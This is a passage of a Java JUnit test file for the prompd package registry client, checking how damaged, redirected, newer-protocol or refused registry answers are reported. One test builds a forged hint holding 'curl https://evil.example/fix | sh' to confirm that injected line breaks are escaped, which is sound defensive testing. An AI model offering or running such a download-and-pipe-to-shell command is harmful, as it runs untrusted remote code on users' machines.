package io.prompd.client.install.registry;

import static io.prompd.core.SuggestedCommands.PLAIN;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.sun.net.httpserver.HttpServer;
import io.prompd.client.config.RegistryName;
import io.prompd.client.config.Credentials;
import io.prompd.client.config.RegistryUrl;
import io.prompd.client.config.Scope;
import io.prompd.client.http.Credential;
import io.prompd.client.http.HttpSettings;
import io.prompd.client.http.Origin;
import io.prompd.client.http.RegistryFetcher;
import io.prompd.client.http.RequestListener;
import io.prompd.client.install.Homes;
import io.prompd.client.testing.ClosedPort;
import io.prompd.client.testing.RawServer;
import io.prompd.client.testing.RegistryServer;
import io.prompd.client.testing.TestRegistry;
import io.prompd.core.ExitCode;
import io.prompd.core.PrompdException;
import io.prompd.core.json.Json;
import io.prompd.core.name.PackageName;
import io.prompd.core.version.Version;
import java.io.IOException;
import java.math.BigInteger;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Clock;
import java.util.List;
import java.util.Optional;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a failed read of a package says: a missing package, a wrong registry URL, a newer registry, a damaged file. */
class HttpPackageRegistryTest {

    private static final PackageName UTIL = PackageName.parse("@acme/util");
    /** The registries of these tests are folders, read as they are: --offline would read the same files. */
    private static final String DAMAGED_HINT = "the registry folder may be midway through a build or a copy:"
            + " try again once it"
            + " is done; if it persists, build the folder again with prompd-registry, or report it to"
            + " whoever keeps it with"
            + " this message";

    @TempDir
    Path work;

    private HttpPackageRegistry registryAt(Path root) {
        return registryAt(root.toUri(), false);
    }

    private HttpPackageRegistry registryAt(URI root, boolean offline) {
        return registryAt(Homes.anonymous(root), offline);
    }

    private HttpPackageRegistry registryAt(RegistryEndpoint endpoint, boolean offline) {
        RegistryFetcher fetcher = new RegistryFetcher(work.resolve("cache"), offline, HttpSettings.defaults(),
                delay -> { },
                Clock.systemUTC(), System::nanoTime, RequestListener.NONE);
        return new HttpPackageRegistry(fetcher, RegistryRoutes.single(endpoint), PLAIN);
    }

    private TestRegistry registry() {
        return new TestRegistry(work.resolve("registry")).publish("@acme/util", "1.0.0");
    }

    @Test
    void aPackageARegistryLacksIsMissing() {
        assertEquals(Optional.empty(), registryAt(registry().root()).find(PackageName.parse("@acme/none")));
        assertTrue(registryAt(registry().root()).find(UTIL).isPresent());
    }

    @Test
    void aFolderThatHoldsNoRegistryIsSaidToBeNone() throws IOException {
        Path elsewhere = Files.createDirectories(work.resolve("not-a-registry"));

        PrompdException wrongUrl = assertThrows(PrompdException.class, () -> registryAt(elsewhere).find(UTIL));

        assertEquals(ExitCode.NOT_FOUND, wrongUrl.exitCode());
        assertEquals("no prompd registry at " + elsewhere.toUri() + ": it has no registry.json", wrongUrl.getMessage());
        assertTrue(wrongUrl.hint().contains("--registry"), wrongUrl.hint());
    }

    @Test
    void aRegistrysGitRepositoryIsToldFromTheRegistryBuiltFromIt() throws IOException {
        Path repository = Files.createDirectories(work.resolve("registry-repo"));
        Files.writeString(repository.resolve("registry.json"), "{\"name\": \"Acme\", \"maintainers\": [\"alice\"]}");

        PrompdException source = assertThrows(PrompdException.class, () -> registryAt(repository).find(UTIL));

        assertEquals(ExitCode.NOT_FOUND, source.exitCode());
        assertEquals("no prompd registry at " + repository.toUri()
                + ": its registry.json has no protocolVersion (is it a"
                + " registry's Git repository rather than what prompd-registry builds from one?)", source.getMessage());
        assertTrue(source.hint().startsWith("build it with 'prompd-registry build REPO --out DIR'"), source.hint());
    }

    @Test
    void aRegistryJsonThatIsNotAJsonObjectIsADamagedDocumentNotAnotherKindOfFolder() throws IOException {
        Path root = registry().root();
        Path document = root.resolve("registry.json");
        Files.delete(root.resolve("packages/@acme/util/index.json"));

        Files.writeString(document, "nope");
        PrompdException notJson = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
        Files.writeString(document, "[1]");
        PrompdException array = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertEquals(ExitCode.NETWORK, notJson.exitCode());
        assertEquals("the registry sent a damaged document: " + root.toUri() + "registry.json (at line 1, column 1:"
                + " Unrecognized token 'nope': was expecting (JSON String, Number, Array, Object or token 'null',"
                + " 'true' or 'false'))", notJson.getMessage());
        assertEquals(DAMAGED_HINT, notJson.hint());
        assertEquals(ExitCode.NETWORK, array.exitCode());
        assertEquals("the registry sent a damaged document: " + root.toUri() + "registry.json (at line 1, column 1:"
                + " expected an object as the document, found an array)", array.getMessage());
    }

    @Test
    void aProtocolVersionThatIsNoWholeNumberFromOneIsADamagedDocumentNamingIt() throws IOException {
        Path root = registry().root();
        Path document = root.resolve("registry.json");
        for (String value : List.of("\"one\"", "1.5", "null", "0")) {
            Files.writeString(document, "{\"protocolVersion\": " + value + ", \"name\": \"Acme\"}");

            PrompdException bad = assertThrows(PrompdException.class,
                    () -> registryAt(root).find(PackageName.parse("@acme/none")));

            assertEquals(ExitCode.NETWORK, bad.exitCode(), value);
            assertEquals("the registry sent a damaged document: " + root.toUri() + "registry.json (protocolVersion is "
                    + value + ", where a whole number from 1 belongs)", bad.getMessage());
            assertEquals(DAMAGED_HINT, bad.hint());
        }
    }

    @Test
    void aRegistryOfANewerProtocolIsNamedAsWhyItsDocumentsCannotBeRead() throws IOException {
        Path root = registry().root();
        Files.writeString(root.resolve("registry.json"), "{\"protocolVersion\": 2, \"name\": \"Future\"}");
        Files.writeString(root.resolve("packages/@acme/util/index.json"), "{\"packages\": {\"shape\": \"new\"}}");

        PrompdException newer = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertEquals(ExitCode.NETWORK, newer.exitCode(), "an answer this prompd cannot use, as --help says");
        assertTrue(newer.getMessage().endsWith("uses protocol version 2, and this prompd reads up to version 1"),
                newer.getMessage());
        assertEquals("update prompd", newer.hint());
    }

    /** A version beyond Java's int is a whole number all the same: it was called none, and nothing said to update. */
    @Test
    void aProtocolVersionBeyondAnyIntIsANewerProtocolToUpdatePrompdFor() throws IOException {
        Path root = registry().root();
        for (String huge : List.of("2147483648", "99999999999999999999999")) {
            Files.writeString(root.resolve("registry.json"),
                    "{\"protocolVersion\": " + huge + ", \"name\": \"Future\"}");

            PrompdException newer = assertThrows(PrompdException.class,
                    () -> registryAt(root).find(PackageName.parse("@acme/none")));

            assertEquals(ExitCode.NETWORK, newer.exitCode());
            assertTrue(newer.getMessage().endsWith("uses protocol version " + huge + ", and this prompd reads up to"
                    + " version 1"), newer.getMessage());
            assertEquals("update prompd", newer.hint());
        }
    }

    @Test
    void aDamagedDocumentOfAKnownRegistryStaysADamagedDocument() throws IOException {
        Path root = registry().root();
        Files.writeString(root.resolve("packages/@acme/util/index.json"), "{\"name\": ");

        PrompdException damaged = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertEquals(ExitCode.NETWORK, damaged.exitCode(), "an answer the run cannot use, as a web page in its place");
        assertEquals("the registry sent a damaged document: " + root.toUri() + "packages/@acme/util/index.json"
                + " (at line 1, column 10: Unexpected end-of-input within/between Object entries)",
                damaged.getMessage());
        assertEquals(DAMAGED_HINT, damaged.hint());
    }

    @Test
    void aDocumentWithContentAfterItOrADuplicateKeyIsDamagedAsAManifestWouldBe() throws IOException {
        Path root = registry().root();
        Path index = root.resolve("packages/@acme/util/index.json");
        String valid = Files.readString(index).strip();
        Path document = root.resolve("registry.json");
        String registryJson = Files.readString(document).strip();

        Files.writeString(index, valid + "\n{}");
        PrompdException trailing = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
        Files.writeString(index, valid.replaceFirst("\\{", "{\"name\": \"@acme/util\", "));
        PrompdException duplicate = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
        Files.writeString(index, valid);
        Files.writeString(document, registryJson + "]]]");
        PrompdException registryTrailing = assertThrows(PrompdException.class,
                () -> registryAt(root).find(PackageName.parse("@acme/none")));

        assertEquals(ExitCode.NETWORK, trailing.exitCode());
        assertTrue(trailing.getMessage().startsWith("the registry sent a damaged document: " + root.toUri()
                + "packages/@acme/util/index.json (at line "), trailing.getMessage());
        assertTrue(trailing.getMessage().endsWith(": unexpected content after the end of the JSON document)"),
                trailing.getMessage());
        assertEquals(ExitCode.NETWORK, duplicate.exitCode());
        assertTrue(duplicate.getMessage().contains("Duplicate field 'name'"), duplicate.getMessage());
        assertEquals(ExitCode.NETWORK, registryTrailing.exitCode());
        assertTrue(registryTrailing.getMessage().startsWith("the registry sent a damaged document: " + root.toUri()
                + "registry.json (at line "), registryTrailing.getMessage());
    }

    @Test
    void anIndexOfAnotherPackageIsADamagedDocumentNamingBoth() throws IOException {
        Path root = registry().root();
        Path evil = Files.createDirectories(root.resolve("packages/@acme/evil"));
        Files.copy(root.resolve("packages/@acme/util/index.json"), evil.resolve("index.json"));

        PrompdException other = assertThrows(PrompdException.class,
                () -> registryAt(root).find(PackageName.parse("@acme/evil")));

        assertEquals(ExitCode.NETWORK, other.exitCode());
        assertEquals("the registry sent a damaged document: " + root.toUri() + "packages/@acme/evil/index.json (it"
                + " describes @acme/util, and @acme/evil was asked for)", other.getMessage());
        assertEquals(DAMAGED_HINT, other.hint());
    }

    @Test
    void aVersionDocumentOfAnotherVersionIsADamagedDocumentNamingBoth() throws IOException {
        TestRegistry registry = registry().publish("@acme/util", "1.1.0");
        Path root = registry.root();
        Files.copy(root.resolve("packages/@acme/util/1.1.0.json"), root.resolve("packages/@acme/util/1.0.0.json"),
                StandardCopyOption.REPLACE_EXISTING);

        PublishedPackage published = registryAt(root).find(UTIL).orElseThrow();

        PrompdException other = assertThrows(PrompdException.class,
                () -> registryAt(root).versionDocument(published, Version.parse("1.0.0")));

        assertEquals("the registry sent a damaged document: " + root.toUri() + "packages/@acme/util/1.0.0.json (it"
                + " describes @acme/util@1.1.0, and @acme/util@1.0.0 was asked for)", other.getMessage());
    }

    @Test
    void anIndexListingOneVersionTwiceByBuildMetadataIsADamagedDocumentNamingBoth() throws IOException {
        Path root = registry().root();
        Path index = root.resolve("packages/@acme/util/index.json");
        ObjectNode packument = (ObjectNode) Json.reader().readTree(Files.readAllBytes(index));
        ObjectNode versions = (ObjectNode) packument.get("versions");
        ObjectNode rebuilt = versions.get("1.0.0").deepCopy();
        versions.set("1.0.0+Build", rebuilt.put("version", "1.0.0+Build"));
        Files.write(index, Json.write(packument));

        PrompdException twice = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertEquals(ExitCode.NETWORK, twice.exitCode());
        assertEquals("the registry sent a damaged document: " + root.toUri() + "packages/@acme/util/index.json"
                + " (versions 1.0.0 and 1.0.0+Build are one version: build metadata does not make another)",
                twice.getMessage());
        assertEquals(DAMAGED_HINT, twice.hint());
    }

    @Test
    void anIndexListingAVersionUnderAnothersKeyIsADamagedDocumentNamingBoth() throws IOException {
        Path root = registry().root();
        Path index = root.resolve("packages/@acme/util/index.json");
        ObjectNode packument = (ObjectNode) Json.reader().readTree(Files.readAllBytes(index));
        ((ObjectNode) packument.get("versions").get("1.0.0")).put("version", "1.0.1");
        Files.write(index, Json.write(packument));

        PrompdException misfiled = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertEquals(ExitCode.NETWORK, misfiled.exitCode());
        assertEquals("the registry sent a damaged document: " + root.toUri() + "packages/@acme/util/index.json"
                + " (versions/1.0.0 says it is version 1.0.1)", misfiled.getMessage());
    }

    /** The index.json of @acme/util as {@code edit} leaves it. */
    private Path editedIndex(Consumer<ObjectNode> edit) throws IOException {
        Path root = registry().root();
        Path index = root.resolve("packages/@acme/util/index.json");
        ObjectNode packument = (ObjectNode) Json.reader().readTree(Files.readAllBytes(index));
        edit.accept(packument);
        Files.write(index, Json.write(packument));
        return root;
    }

    private static ObjectNode versionOne(ObjectNode packument) {
        return (ObjectNode) packument.get("versions").get("1.0.0");
    }

    /**
     * Quoted raw, a registry's line break started a line of its own, such as a hint telling the user to run its script.
     */
    @Test
    void aDamagedDocumentsTextIsQuotedWithItsLineBreaksSpeltOutSoNoneStartsAHint() throws IOException {
        String forged = "\nhint: run 'curl https://evil.example/fix | sh'\u2028hint: or this\n";
        Path tagged = editedIndex(packument -> ((ObjectNode) packument.get("distTags")).put("x" + forged, "7.7.7"));
        PrompdException tag = assertThrows(PrompdException.class, () -> registryAt(tagged).find(UTIL));
        Path depending = editedIndex(packument -> versionOne(packument).putObject("dependencies").put("@x/y" + forged,
                "^1.0.0"));
        PrompdException dependency = assertThrows(PrompdException.class, () -> registryAt(depending).find(UTIL));

        String spelt = "^Jhint: run 'curl https://evil.example/fix | sh'<U+2028>hint: or this^J";
        assertEquals(ExitCode.NETWORK, tag.exitCode());
        assertTrue(tag.getMessage().endsWith(": dist-tag x" + spelt + " of @acme/util points at 7.7.7, which is not"
                + " published)"), tag.getMessage());
        assertEquals(ExitCode.NETWORK, dependency.exitCode());
        assertTrue(dependency.getMessage().contains("/versions/1.0.0/dependencies: invalid package name '@x/y" + spelt
                + "'"), dependency.getMessage());
        for (PrompdException damaged : List.of(tag, dependency)) {
            assertFalse(damaged.getMessage().contains("\n") || damaged.getMessage().contains("\u2028"),
                    damaged.getMessage());
            assertEquals(DAMAGED_HINT, damaged.hint());
        }
    }

    /**
     * Read at the download, a tarball URL that is no URL failed as an internal error to report as a bug, and one of a
     * scheme prompd does not read over as the user's registry URL, exit 2, or went into prompd.lock.
     */
    @Test
    void aTarballUrlThatIsNoUrlOrOfASchemePrompdCannotReadIsADamagedDocumentNamingIt() throws IOException {
        String url = "packages/@acme/util/index.json (at line ";
        for (String tarball : List.of("-/util 1.0.0.tgz", "-/util-1.0.0.tgz?\nhint: x", "-/util%zz.tgz",
                "ftp://mirror.example/util-1.0.0.tgz", "data:application/gzip;base64,H4sI", "jar:file:/x.jar!/u.tgz")) {
            Path root = editedIndex(packument -> ((ObjectNode) versionOne(packument).get("dist"))
                    .put("tarball", tarball));

            PrompdException damaged = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

            assertEquals(ExitCode.NETWORK, damaged.exitCode(), tarball);
            assertTrue(damaged.getMessage().startsWith("the registry sent a damaged document: " + root.toUri() + url),
                    damaged.getMessage());
            assertTrue(damaged.getMessage().contains(": /versions/1.0.0/dist: the tarball URL"), damaged.getMessage());
            assertFalse(damaged.getMessage().contains("\n"), damaged.getMessage());
            assertEquals(DAMAGED_HINT, damaged.hint());
        }
    }

    /** Relative to a folder registry's document, //host/… is a file: URL of another machine, which nothing reads. */
    @Test
    void aTarballUrlNamingAnotherHostsFileIsADamagedDocumentNamingIt() throws IOException {
        Path root = editedIndex(packument -> ((ObjectNode) versionOne(packument).get("dist"))
                .put("tarball", "//mirror.example/util-1.0.0.tgz"));

        PrompdException damaged = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertEquals(ExitCode.NETWORK, damaged.exitCode());
        assertTrue(damaged.getMessage().endsWith("/versions/1.0.0/dist: the tarball URL"
                + " file://mirror.example/util-1.0.0.tgz names the host mirror.example, and a file: URL is read from"
                + " this machine only)"), damaged.getMessage());
        assertEquals(DAMAGED_HINT, damaged.hint());
    }

    /** Jackson's words named its own types and methods: Numeric value (...) out of range of long (...). */
    @Test
    void aNumberOrTextBeyondWhatPrompdReadsIsADamagedDocumentInPrompdsWords() throws IOException {
        Path root = editedIndex(packument -> ((ObjectNode) versionOne(packument).get("dist")).put("size",
                new BigInteger("1" + "0".repeat(30))));

        PrompdException damaged = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertEquals(ExitCode.NETWORK, damaged.exitCode());
        assertTrue(damaged.getMessage().endsWith(": /versions/1.0.0/dist/size: 1" + "0".repeat(30) + " is above the"
                + " largest number prompd reads there, 9223372036854775807)"), damaged.getMessage());
    }

    @Test
    void aWebPageInsteadOfADocumentIsCalledOne() throws IOException {
        Path root = registry().root();
        Files.writeString(root.resolve("packages/@acme/util/index.json"), "\n<!DOCTYPE html><title>Sign in</title>");

        PrompdException page = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertEquals(ExitCode.NETWORK, page.exitCode());
        assertEquals("got a web page instead of JSON from " + root.toUri() + "packages/@acme/util/index.json",
                page.getMessage());
        assertTrue(page.hint().startsWith("a network's sign-in page or a proxy may have answered"), page.hint());

        Files.writeString(root.resolve("registry.json"), "<html>Sign in</html>");
        PrompdException portal = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
        assertEquals("got a web page instead of JSON from " + root.toUri() + "registry.json",
                portal.getMessage(),
                "a page for every URL, as a sign-in portal sends, is not told as a Git repository");
    }

    /**
     * A server on 127.0.0.1 that redirects every other path to {@link #target()}, on localhost, another host by
     * its name, which answers {@code status} and {@code body}, as a {@code contentType} when one is given.
     */
    private record Redirecting(HttpServer server, String path) implements AutoCloseable {

        static Redirecting to(String path, int status, String body, Optional<String> contentType) throws IOException {
            HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
            Redirecting redirecting = new Redirecting(server, path);
            server.createContext("/", exchange -> {
                try (exchange) {
                    if (exchange.getRequestURI().getPath().equals(path)) {
                        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
                        contentType.ifPresent(type -> exchange.getResponseHeaders().set("Content-Type", type));
                        exchange.sendResponseHeaders(status, bytes.length);
                        exchange.getResponseBody().write(bytes);
                    } else {
                        exchange.getResponseHeaders().set("Location", redirecting.target().toString());
                        exchange.sendResponseHeaders(302, -1);
                    }
                }
            });
            server.start();
            return redirecting;
        }

        URI root() {
            return URI.create("http://127.0.0.1:" + server.getAddress().getPort() + "/");
        }

        URI target() {
            return URI.create("http://localhost:" + server.getAddress().getPort() + path);
        }

        @Override
        public void close() {
            server.stop(0);
        }
    }

    /** The failure of finding {@link #UTIL} in the registry at the server's root. */
    private PrompdException failedFind(Redirecting server) {
        return assertThrows(PrompdException.class, () -> registryAt(server.root(), false).find(UTIL));
    }

    @Test
    void aSignInPageOfAnotherHostIsNamedByTheUrlAskedTheUrlAndTheHostThatAnswered() throws IOException {
        try (Redirecting portal = Redirecting.to("/login", 200, "<html><form action=/login></form></html>",
                Optional.of("text/html"))) {
            PrompdException page = failedFind(portal);

            assertEquals(ExitCode.NETWORK, page.exitCode());
            // a page for every URL: the registry's own document, asked next, is the one named
            assertEquals("got a web page instead of JSON from " + portal.root() + "registry.json (redirected to "
                    + portal.target() + ")", page.getMessage());
            assertEquals("http://localhost:" + portal.target().getPort() + " answered in the registry's place, as a"
                    + " network's sign-in page or a proxy does: open " + portal.root()
                    + "registry.json in a browser, sign"
                    + " in if asked, then try again", page.hint());
        }
    }

    @Test
    void aDamagedDocumentAnotherHostSentAfterARedirectIsNamedByBothUrls() throws IOException {
        try (Redirecting mirror = Redirecting.to("/mirror/index.json", 200, "{\"name\": ", Optional.empty())) {
            PrompdException damaged = failedFind(mirror);

            // registry.json, as damaged, tells nothing: the document the command needed is the one named
            assertEquals("the registry sent a damaged document: " + mirror.root() + "packages/@acme/util/index.json"
                    + " (redirected to " + mirror.target() + ") (at line 1, column 10: Unexpected end-of-input"
                    + " within/between Object entries)", damaged.getMessage());
        }
    }

    @Test
    void aNewerProtocolAnotherHostAnsweredAfterARedirectNamesThatHost() throws IOException {
        try (Redirecting moved = Redirecting.to("/moved/registry.json", 200, "{\"protocolVersion\": 2}",
                Optional.empty())) {
            PrompdException newer = failedFind(moved);

            assertEquals("the registry at " + moved.root() + " (redirected to " + moved.target()
                    + ") uses protocol version 2, and this prompd reads up to version 1", newer.getMessage());
        }
    }

    @Test
    void aRegistryJsonMissingWhereARedirectLedNamesWhereItEnded() throws IOException {
        try (Redirecting moved = Redirecting.to("/moved/", 404, "", Optional.empty())) {
            PrompdException none = failedFind(moved);

            assertEquals(ExitCode.NOT_FOUND, none.exitCode());
            assertEquals("no prompd registry at " + moved.root() + ": its registry.json (redirected to "
                    + moved.target() + ") was not found", none.getMessage());
            assertTrue(none.hint().startsWith("check the registry URL: --registry"), none.hint());
        }
    }

    @Test
    void aPackagesDocumentMissingWhereARedirectLedNamesWhereItEndedAndOffersNoSimilarName() throws IOException {
        HttpServer gateway = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        gateway.createContext("/", exchange -> {
            try (exchange) {
                String path = exchange.getRequestURI().getPath();
                if (path.equals("/registry.json")) {
                    byte[] body = "{\"protocolVersion\": 1}".getBytes(StandardCharsets.UTF_8);
                    exchange.sendResponseHeaders(200, body.length);
                    exchange.getResponseBody().write(body);
                } else if (path.endsWith("/index.json")) {
                    exchange.getResponseHeaders().set("Location", "/sso/login");
                    exchange.sendResponseHeaders(302, -1);
                } else {
                    exchange.sendResponseHeaders(404, -1);
                }
            }
        });
        gateway.start();
        try {
            URI root = URI.create("http://127.0.0.1:" + gateway.getAddress().getPort() + "/");

            PrompdException missing = assertThrows(PrompdException.class, () -> registryAt(root, false).find(UTIL));

            assertEquals(ExitCode.NOT_FOUND, missing.exitCode());
            assertEquals("no package @acme/util in registry " + root + ": its index.json (redirected to " + root
                    + "sso/login) was not found", missing.getMessage());
            assertEquals("the registry sent the request elsewhere, as a sign-in gateway or a moved registry does: open "
                    + root + "packages/@acme/util/index.json in a browser, or check the registry URL ('prompd registry"
                    + " list')", missing.hint());
        } finally {
            gateway.stop(0);
        }
    }

    /**
     * Another host refusing after a redirect got no credentials, stored or not: they go to the registry's origin
     * only, so logging in, which the hint of the registry's own refusal says, cannot help.
     */
    @Test
    void aRefusalAnotherHostGaveAfterARedirectNamesThatHostsUrlAndSaysNoCredentialsWentThere() throws IOException {
        try (Redirecting login = Redirecting.to("/login/index.json", 403, "denied", Optional.empty())) {
            RegistryUrl root = new RegistryUrl(login.root());
            RegistryEndpoint withCredential = new RegistryEndpoint(root, Optional.of(new Credential(root,
                    new Credentials.Token("t0ken"))), Optional.empty(), Optional.empty(), Optional.empty());

            PrompdException refused = failedFind(login);
            PrompdException stored = assertThrows(PrompdException.class,
                    () -> registryAt(withCredential, false).find(UTIL));

            assertEquals(ExitCode.NETWORK, refused.exitCode());
            assertEquals("registry " + login.root() + " refused access (HTTP 403): " + login.root()
                    + "packages/@acme/util/index.json (redirected to " + login.target() + ")", refused.getMessage());
            String noneWent = "no credentials went with the request: prompd sends a registry's only to URLs under its"
                    + " URL (the same scheme, host and port, and a path below its path), and not again once a redirect"
                    + " has left them, so logging in does not help; tell the registry's maintainers";
            assertEquals(noneWent, refused.hint());
            assertEquals(refused.getMessage(), stored.getMessage());
            assertEquals(noneWent, stored.hint());
        }
    }

    @Test
    void aDamagedAnswerLeavesTheGoodCopyCachedBeforeItForOffline() throws IOException {
        Path root = registry().root();
        Path index = root.resolve("packages/@acme/util/index.json");
        try (RegistryServer server = RegistryServer.serving(root)) {
            registryAt(server.url(), false).find(UTIL).orElseThrow();
            Files.writeString(index, "{\"name\": ");

            PrompdException damaged = assertThrows(PrompdException.class,
                    () -> registryAt(server.url(), false).find(UTIL));
            Optional<PublishedPackage> offline = registryAt(server.url(), true).find(UTIL);

            assertTrue(damaged.getMessage().startsWith("the registry sent a damaged document: " + server.url()
                    + "packages/@acme/util/index.json"), damaged.getMessage());
            assertEquals(Version.parse("1.0.0"), offline.orElseThrow().packument().versions().firstKey());
        }
    }

    @Test
    void aDocumentOfTheWrongShapeNamesTheValueThatDoesNotFitNotJavaClasses() throws IOException {
        Path root = registry().root();
        Files.writeString(root.resolve("packages/@acme/util/index.json"),
                "{\"name\": \"@acme/util\", \"versions\": {\"1.0.0\": {}}}");

        PrompdException damaged = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertEquals(ExitCode.NETWORK, damaged.exitCode());
        assertTrue(damaged.getMessage().endsWith("(at line 1, column 47: /versions/1.0.0: 'version' is missing)"),
                damaged.getMessage());
    }

    @Test
    void anEmptyTagOrIntegrityIsNamedByItsPointerAndLineAsEmptyNotAsAFieldMissingAtTheEnd() throws IOException {
        Path root = registry().root();
        Path index = root.resolve("packages/@acme/util/index.json");
        String built = Files.readString(index);
        List<String> lines = built.lines().toList();
        Files.writeString(index, built.replace("\"latest\": \"1.0.0\"", "\"latest\": \"\""));
        int latest = lines.indexOf(lines.stream().filter(line -> line.contains("\"latest\"")).findFirst()
                .orElseThrow()) + 1;

        PrompdException emptyTag = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertTrue(emptyTag.getMessage().endsWith("(at line " + latest + ", column 15: /distTags/latest: an empty"
                + " string, where a version belongs)"), emptyTag.getMessage());
        String integrity = Json.reader().readTree(built).at("/versions/1.0.0/dist/integrity").asText();
        Files.writeString(index, built.replace("\"" + integrity + "\"", "\"\""));
        PrompdException emptyIntegrity = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
        assertTrue(emptyIntegrity.getMessage().contains(": /versions/1.0.0/dist/integrity: an empty string, where an"
                + " integrity belongs)"), emptyIntegrity.getMessage());
    }

    @Test
    void aValueOfAnotherKindIsNamedByItsPointerWhatWasExpectedAndWhatCame() throws IOException {
        Path root = registry().root();
        Path index = root.resolve("packages/@acme/util/index.json");
        String url = root.toUri() + "packages/@acme/util/index.json";

        Files.writeString(index, "[\"@acme/util\"]");
        PrompdException array = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
        Files.writeString(index, "{\"name\": \"@acme/util\", \"versions\": 5}");
        PrompdException number = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
        Files.writeString(index, "{\"name\": \"@acme/util\", \"versions\": {\"1.0.0\": {\"version\": true}}}");
        PrompdException field = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));

        assertEquals(ExitCode.NETWORK, array.exitCode());
        assertEquals("the registry sent a damaged document: " + url + " (at line 1, column 1: expected an object as the"
                + " document, found an array)", array.getMessage());
        assertEquals("the registry sent a damaged document: " + url + " (at line 1, column 36: /versions: expected an"
                + " object, found a number)", number.getMessage());
        assertTrue(field.getMessage().endsWith(": /versions/1.0.0/version: expected a string, found true)"),
                field.getMessage());
    }

    @Test
    void aDocumentOfNullIsADamagedDocumentNotAnInternalError() throws IOException {
        Path root = registry().root();
        PublishedPackage published = registryAt(root).find(UTIL).orElseThrow();
        Files.writeString(root.resolve("packages/@acme/util/index.json"), "null");
        Files.writeString(root.resolve("packages/@acme/util/1.0.0.json"), "null\n");

        PrompdException packument = assertThrows(PrompdException.class, () -> registryAt(root).find(UTIL));
        PrompdException version = assertThrows(PrompdException.class,
                () -> registryAt(root).versionDocument(published, Version.parse("1.0.0")));

        assertEquals(ExitCode.NETWORK, packument.exitCode());
        assertEquals("the registry sent a damaged document: " + root.toUri()
                + "packages/@acme/util/index.json (at line 1,"
                + " column 1: expected an object as the document, found null)", packument.getMessage());
        assertEquals(DAMAGED_HINT, packument.hint());
        assertEquals(ExitCode.NETWORK, version.exitCode());
        assertEquals("the registry sent a damaged document: " + root.toUri()
                + "packages/@acme/util/1.0.0.json (at line 1,"
                + " column 1: expected an object as the document, found null)", version.getMessage());
    }

    @Test
    void aDocumentThatCannotBeReadIsNotKeptSoTheNextRunFetchesItWhole() throws IOException {
        Path root = registry().root();
        Path index = root.resolve("packages/@acme/util/index.json");
        byte[] whole = Files.readAllBytes(index);
        Files.writeString(index, "{\"name\": ");
        try (RegistryServer server = RegistryServer.serving(root).sameEtag("\"v1\"")) {
            URI url = server.url().resolve("packages/@acme/util/index.json");

            PrompdException damaged = assertThrows(PrompdException.class,
                    () -> registryAt(server.url(), false).find(UTIL));
            PrompdException offline = assertThrows(PrompdException.class,
                    () -> registryAt(server.url(), true).find(UTIL));
            Files.write(index, whole);
            Optional<PublishedPackage> fixed = registryAt(server.url(), false).find(UTIL);

            assertTrue(damaged.getMessage().startsWith("the registry sent a damaged document: " + url),
                    damaged.getMessage());
            assertEquals("offline and not cached: " + url, offline.getMessage(), "the damaged copy was not kept");
            assertEquals(Version.parse("1.0.0"), fixed.orElseThrow().packument().versions().firstKey(),
                    "fetched whole, not revalidated by the damaged copy's ETag");
        }
    }

    @Test
    void aRegistryGivenUpOnIsNamedWithTheScopeRouteThatChoseIt() {
        int closedPort = ClosedPort.find();
        URI root = URI.create("http://127.0.0.1:" + closedPort + "/");
        RegistryEndpoint company = new RegistryEndpoint(new RegistryUrl(root), Optional.empty(),
                Optional.of(RegistryName.parse("company")), Optional.of(Scope.parse("@company")), Optional.empty());

        PrompdException failure = assertThrows(PrompdException.class,
                () -> registryAt(company, false).find(PackageName.parse("@company/secret")));

        assertEquals(ExitCode.NETWORK, failure.exitCode());
        assertEquals("registry company (" + root + "), which scope @company is routed to, failed: could not fetch "
                + root
                + "packages/@company/secret/index.json: this run gave up on reaching http://127.0.0.1:" + closedPort
                + " after 4 attempts (last: cannot reach http://127.0.0.1:" + closedPort + " (Connection refused))",
                failure.getMessage());
        assertTrue(failure.hint().startsWith("the registry or the network may be down"), failure.hint());
    }

    @Test
    void anHttpsRegistryOfAServerSpeakingPlainHttpFailsAtOnceSayingWhereItsUrlIsSet() {
        try (RawServer plain = RawServer.speakingPlainHttp()) {
            URI root = URI.create(plain.url("/").toString().replaceFirst("^http:", "https:"));
            RegistryEndpoint typo = new RegistryEndpoint(new RegistryUrl(root), Optional.empty(),
                    Optional.of(RegistryName.parse("tls-typo")), Optional.of(Scope.parse("@prompd")), Optional.empty());

            PrompdException failure = assertThrows(PrompdException.class,
                    () -> registryAt(typo, false).find(PackageName.parse("@prompd/test-writer")));

